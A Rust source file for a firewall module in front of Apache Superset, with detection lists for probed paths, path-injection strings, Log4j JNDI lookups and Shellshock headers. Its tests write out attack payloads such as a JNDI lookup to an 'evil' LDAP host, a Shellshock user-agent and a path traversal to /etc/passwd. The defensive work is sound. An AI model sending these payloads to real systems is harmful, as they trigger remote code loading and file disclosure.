//! What only an attack says: places that Superset does not have, and texts that make others run code.
//!
//! Part of `waf`. A small set on purpose. Paths and fields are looked at, bodies never, and in a query only what no SQL
//! holds: SQL, Jinja and rison are Superset's daily bread, and whoever looks for them finds honest people.

use std::sync::{LazyLock, OnceLock};

use aho_corasick::{AhoCorasick, AhoCorasickKind};
use http::header::{AUTHORIZATION, COOKIE};
use memchr::memmem::Finder;

use crate::head::Fields;

/// First segments that belong to other software, in lower case.
const PLACES: [&str; 33] = [
    "_ignition",
    "actuator",
    "adminer",
    "adminer.php",
    "autodiscover",
    "boaform",
    "cgi-bin",
    "cgi-bin.cgi",
    "crushftp",
    "ecp",
    "geoserver",
    "global-protect",
    "goform",
    "hnap1",
    "hudson",
    "jenkins",
    "jmx-console",
    "myadmin",
    "owa",
    "phpmyadmin",
    "phpunit",
    "pma",
    "server-info",
    "server-status",
    "solr",
    "struts",
    "telescope",
    "weblogic",
    "wordpress",
    "wp-admin",
    "wp-content",
    "wp-includes",
    "wp-json",
];

/// Endings of other software's files, and of what is left lying about.
const ENDINGS: [&str; 15] =
    ["php", "php5", "php7", "phtml", "asp", "aspx", "ashx", "jsp", "jspx", "jspa", "cgi", "cfm", "env", "bak", "swp"];

/// Whether a path, in its one spelling, is one that no user of Superset asks for. Names of tables and files may stand
/// below `/api`: nothing is looked for there.
pub fn is_probe(path: &str) -> bool {
    // Most requests by far, told without looking for segments.
    if path.starts_with("/api/") || path.starts_with("/static/") {
        return false;
    }
    let mut segments = path.split('/').skip(1);
    let first = segments.next().unwrap_or_default();
    if first == "api" || first == "static" {
        return false;
    }
    if PLACES.iter().any(|place| place.eq_ignore_ascii_case(first)) {
        return true;
    }
    let mut last = first;
    for segment in std::iter::once(first).chain(segments) {
        // `.env`, `.git`, `.aws`: RFC 8615 alone begins with a dot and is for clients.
        if segment.starts_with('.') && segment != ".well-known" {
            return true;
        }
        last = segment;
    }
    last.rsplit_once('.').is_some_and(|(_, ending)| ENDINGS.iter().any(|known| known.eq_ignore_ascii_case(ending)))
}

/// Whether a path, in its one spelling, has what makes others run code or give files away.
pub fn is_injected(path: &str) -> bool {
    (has_rare_pair(path.as_bytes()) && texts().is_match(path)) || has_lookup(path.as_bytes())
}

/// Whether a query has a lookup of Log4j; nothing else is looked for.
pub fn is_injected_query(query: &str) -> bool {
    has_lookup(query.as_bytes())
}

/// Whether a field has a lookup of Log4j, or begins a function of Bash (CVE-2014-6271). Cookies and credentials are
/// looked at by nobody: no log has them.
pub fn is_injected_field(fields: &Fields) -> bool {
    fields.iter().any(|(name, value)| {
        let value = value.as_bytes();
        (has_lookup(value) && name != COOKIE && name != AUTHORIZATION) || value.starts_with(b"() {")
    })
}

/// Whether there is a dollar, or a percent sign that may stand for one.
fn has_mark(value: &[u8]) -> bool {
    // To the end of a block, whatever is found: without an early way out the compiler looks at all its bytes at once.
    fn has<const N: usize>(block: &[u8; N]) -> bool {
        block.iter().fold(false, |found, byte| found | (*byte == b'$') | (*byte == b'%'))
    }
    // The last block overlaps the one before it, so that nothing is left to be looked at byte by byte.
    match (value.last_chunk::<16>(), value.first_chunk::<8>(), value.last_chunk::<8>()) {
        (Some(last), ..) => value.as_chunks::<16>().0.iter().fold(has(last), |found, block| found | has(block)),
        (None, Some(first), Some(last)) => has(first) | has(last),
        _ => value.iter().any(|byte| matches!(byte, b'$' | b'%')),
    }
}

/// Texts of attacks on paths, each with two bytes of it that stand beside each other in few paths.
const TEXTS: [(&str, [u8; 2]); 18] = [
    ("/etc/passwd", *b"c/"),
    ("/etc/shadow", *b"c/"),
    ("/proc/self/", *b"c/"),
    ("win.ini", *b".i"),
    ("<script", *b"<s"),
    ("javascript:", *b"t:"),
    ("{{7*7", *b"{{"),
    ("${7*7", *b"${"),
    ("%{(#", *b"%{"),
    ("t(java.lang", *b"t("),
    ("getruntime(", *b"e("),
    ("freemarker.template", *b".t"),
    ("class.module.classloader", *b"s."),
    ("/bin/sh", *b"n/"),
    ("/bin/bash", *b"n/"),
    ("cmd.exe", *b"md"),
    ("php://", *b":/"),
    ("allow_url_include", *b"_u"),
];

/// Whether two bytes of one of the texts stand beside each other: what nearly all paths lack, and a look at a table for
/// each byte costs less than a step of the automaton.
fn has_rare_pair(path: &[u8]) -> bool {
    // For each byte the texts whose pair begins with it, and those whose pair ends with it.
    static PAIRS: LazyLock<[[u32; 2]; 256]> = LazyLock::new(|| {
        let mut pairs = [[0; 2]; 256];
        for (index, (_, pair)) in TEXTS.iter().enumerate() {
            for (at, byte) in pair.iter().enumerate() {
                for byte in [byte.to_ascii_lowercase(), byte.to_ascii_uppercase()] {
                    if let Some(bits) = pairs.get_mut(usize::from(byte)).and_then(|ends| ends.get_mut(at)) {
                        *bits |= 1 << index;
                    }
                }
            }
        }
        pairs
    });
    let pairs = &*PAIRS;
    let mut begun = 0;
    path.iter().any(|byte| {
        let [begins, ends] = pairs.get(usize::from(*byte)).copied().unwrap_or_default();
        let both = begun & ends != 0;
        begun = begins;
        both
    })
}

/// The texts of attacks, all looked for in one pass.
fn texts() -> &'static AhoCorasick {
    static AUTOMATON: OnceLock<AhoCorasick> = OnceLock::new();
    AUTOMATON.get_or_init(|| {
        #[expect(clippy::expect_used, reason = "a constant; a test builds it")]
        AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .kind(Some(AhoCorasickKind::DFA))
            .build(TEXTS.map(|(text, _)| text))
            .expect("a few short texts")
    })
}

/// Makes the automaton, so that no request has to wait for it.
pub fn prepare() {
    texts();
}

/// How lookups of Log4j begin, and how they are hidden.
const LOOKUPS: [&[u8]; 9] = [b"jndi:", b"${", b"lower:", b"upper:", b"::-", b"env:", b"sys:", b"java:", b"date:"];

/// Whether there is a `${jndi:`, as it is or escaped once, in any of its disguises (CVE-2021-44228).
fn has_lookup(bytes: &[u8]) -> bool {
    // Most escapes are of something else, and to look at each takes longer than to look for this one.
    static DOLLAR: LazyLock<Finder<'static>> = LazyLock::new(|| Finder::new("%24"));
    if !has_mark(bytes) || (memchr::memchr(b'$', bytes).is_none() && DOLLAR.find(bytes).is_none()) {
        return false;
    }
    let mut rest = bytes;
    while let Some(at) = memchr::memchr2(b'$', b'%', rest) {
        rest = rest.get(at..).unwrap_or_default();
        // A dollar, as it is or escaped.
        if let [b'$', after @ ..] | [b'%', b'2', b'4', after @ ..] = rest {
            let mut decoded = Decoded(after);
            if decoded.next() == Some(b'{') {
                let mut head = [0; 8];
                for (into, byte) in head.iter_mut().zip(decoded) {
                    *into = byte.to_ascii_lowercase();
                }
                if LOOKUPS.iter().any(|lookup| head.starts_with(lookup)) {
                    return true;
                }
            }
        }
        rest = rest.get(1..).unwrap_or_default();
    }
    false
}

/// Bytes with their escapes decoded once.
struct Decoded<'a>(&'a [u8]);

impl Iterator for Decoded<'_> {
    type Item = u8;

    fn next(&mut self) -> Option<u8> {
        let digit = |byte: u8| char::from(byte).to_digit(16).and_then(|digit| u8::try_from(digit).ok());
        let (byte, rest) = match self.0 {
            [b'%', high, low, rest @ ..] => match (digit(*high), digit(*low)) {
                (Some(high), Some(low)) => ((high << 4) | low, rest),
                _ => (b'%', self.0.get(1..)?),
            },
            [byte, rest @ ..] => (*byte, rest),
            [] => return None,
        };
        self.0 = rest;
        Some(byte)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn places_of_other_software_are_probes() {
        for path in [
            "/.env",
            "/.git/config",
            "/wp-admin/install.php",
            "/wp-login.php",
            "/xmlrpc.php",
            "/phpMyAdmin/index.php",
            "/cgi-bin/luci",
            "/actuator/health",
            "/superset/.env",
            "/a/b/shell.JSP",
            "/backup.bak",
            "/HNAP1",
        ] {
            assert!(is_probe(path), "{path}");
        }
    }

    #[test]
    fn every_text_has_its_rare_pair_and_is_found_in_any_case() {
        for (text, pair) in TEXTS {
            assert!(text.as_bytes().windows(2).any(|two| two == pair), "{text}");
            for path in [format!("/x{text}"), format!("/x{}y", text.to_ascii_uppercase())] {
                assert!(is_injected(&path), "{path}");
            }
        }
        assert!(!has_rare_pair(b"/superset/dashboard/world_health/") && !has_rare_pair(b"/api/v1/chart/data"));
    }

    #[test]
    fn attacks_are_seen_in_paths_queries_and_fields() {
        assert!(is_injected("/x/${jndi:ldap://evil/a}"));
        assert!(is_injected("/files/..;/etc/passwd"));
        assert!(is_injected("/a/<ScRiPt>alert(1)"));
        for query in ["q=${jndi:ldap://x}", "q=%24%7Bjndi:dns://x%7D", "a=1&b=${${lower:j}ndi:x}", "x=%24%7b%6andi:x"] {
            assert!(is_injected_query(query), "{query}");
        }
        let mut fields = Fields::new();
        fields.insert("x-api-version", "${JNDI:ldap://evil/a}".parse().unwrap());
        assert!(is_injected_field(&fields));
        let mut fields = Fields::new();
        fields.insert("user-agent", "() { :;}; echo".parse().unwrap());
        assert!(is_injected_field(&fields));
    }

    #[test]
    fn lookup_is_found_wherever_it_stands() {
        let others = ["$", "%", "%2", "%24", "$$", "$%", "%24$", "${cost} > 1 ", "%24%7Bcost%7D"].map(str::to_owned);
        for before in (0..40).map(|length| "a".repeat(length)).chain(others) {
            for lookup in ["${jndi:", "%24{jndi:", "$%7bJNDI:", "%24%7B%6andi:"] {
                for length in 0..20 {
                    let text = format!("{before}{lookup}{}", "a".repeat(length));
                    let fields = Fields::from_iter([(http::header::ACCEPT, text.parse().unwrap())]);
                    assert!(is_injected(&text) && is_injected_query(&text) && is_injected_field(&fields), "{text}");
                }
            }
        }
    }

    /// What Superset's front end, its users and its documentation send.
    #[test]
    fn honest_requests_are_no_attacks() {
        for target in [
            "/",
            "/health",
            "/login/?next=/superset/welcome/",
            "/superset/welcome/",
            "/superset/dashboard/1/?native_filters_key=8Zn2-_xQ&standalone=2",
            "/superset/dashboard/births/?native_filters=(NATIVE_FILTER-1:(__cache:(label:'x',value:!('a')),id:NATIVE_FILTER-1))",
            "/superset/dashboard/p/a1B2c3D4e5F/",
            "/explore/?form_data_key=abc&slice_id=12&dashboard_page_id=x",
            "/explore/?form_data=%7B%22adhoc_filters%22%3A%5B%7B%22sqlExpression%22%3A%22a%20%3D%20'x'%20OR%201%3D1%22%7D%5D%7D",
            "/api/v1/chart/?q=(columns:!(id,slice_name),filters:!((col:slice_name,opr:chart_all_text,value:'<script>')),page:0)",
            "/api/v1/sqllab/?q=(sql:'SELECT%20*%20FROM%20users%20UNION%20SELECT%201;--')",
            "/api/v1/sqllab/results/?q=(key:'a-b')",
            "/api/v1/query/updated_since?q=(last_updated_ms:1700000000000)",
            "/api/v1/database/1/table/..hidden/public/",
            "/api/v1/database/1/table/passwd.bak/etc/",
            "/api/v1/database/1/tables/?q=(force:!f,schema_name:'{{%20ds%20}}')",
            "/api/v1/explore/permalink/x?sql={{ current_username() }} and ${cost} > 1",
            "/static/assets/vendors.5f1e.entry.js",
            "/static/appbuilder/css/bootstrap.min.css",
            "/superset/log/?explode=events&dashboard_id=1",
            "/lang/de",
            "/users/userinfo/",
            "/users/list/?_flt_0_name=jsp",
            "/embedded/5b2f7c1e-1111-2222-3333-444455556666?uiConfig=5",
            "/oauth-authorized/google?code=4%2F0A&state=abc&scope=openid%20email",
            "/superset/sqllab/?dbid=1&sql=select%20'%24%7Bvalue%7D'",
            "/swagger/v1",
            "/api/v1/_openapi",
            "/sqllab/history/",
            "/databaseview/list/",
            "/.well-known/acme-challenge/abc",
            "/favicon.ico",
            "/robots.txt",
            "/ws?last_id=1700-0",
            "/mcp",
            "/chart/add",
            "/dashboard/list/?viewMode=card",
            "/tablemodelview/list/?pageIndex=0&sortColumn=changed_on",
            "/rowlevelsecurity/list/",
            "/alert/list/",
            "/report/list/",
            "/api/v1/dashboard/1/thumbnail/abc/",
            "/api/v1/async_event/?last_id=1",
            "/api/v1/security/csrf_token/",
            "/superset/explore_json/?form_data=%7B%22slice_id%22%3A1%7D&csv=true",
        ] {
            let (path, query) = target.split_once('?').unwrap_or((target, ""));
            assert!(!is_probe(path), "{target}");
            assert!(!is_injected(path), "{target}");
            assert!(!is_injected_query(query), "{target}");
            assert!(!super::super::spelling::is_deceptive(path.as_bytes()), "{target}");
        }
    }
}
